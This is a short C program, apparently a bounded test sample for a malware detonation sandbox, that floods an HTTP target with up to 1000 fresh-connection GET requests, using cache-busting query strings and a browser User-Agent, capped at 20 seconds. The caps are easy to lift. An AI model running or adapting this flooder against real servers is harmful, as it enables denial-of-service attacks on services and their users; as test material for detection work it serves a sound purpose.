/* Stand-in HTTP flooder (detonate test sample; harmless, bounded): COUNT GET requests to one
 * target, a new connection each, reading only the first bytes of each answer. Stops after
 * COUNT requests or 20 s, whichever comes first.
 *
 *   flood http://victim.example.test/ 400
 */
#include "net.h"

#include <time.h>

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    char host[256], path[512], request[1024], answer[512];
    int port = 80, count = atoi(argv[2]), sent = 0;
    struct sockaddr_in addr = {.sin_family = AF_INET};
    split_url(argv[1], host, sizeof host, &port, path, sizeof path);
    if (count > 1000) count = 1000;
    if (resolve4(host, &addr.sin_addr) != 0) return 1;
    addr.sin_port = htons((uint16_t)port);
    time_t start = time(NULL);
    for (int i = 0; i < count && time(NULL) - start < 20; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0) break;
        set_timeouts(fd, 2);
        if (connect(fd, (struct sockaddr *)&addr, sizeof addr) == 0) {
            snprintf(request, sizeof request,
                     "GET %s?r=%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n"
                     "Cache-Control: no-cache\r\nConnection: close\r\n\r\n",
                     path, i, host);
            if (write_text(fd, request) == 0) sent++;
            if (read(fd, answer, sizeof answer) < 0) { /* the target is slowing down: go on */
            }
        }
        close(fd);
    }
    printf("%d requests to %s:%d in %ld s\n", sent, host, port, (long)(time(NULL) - start));
    return 0;
}
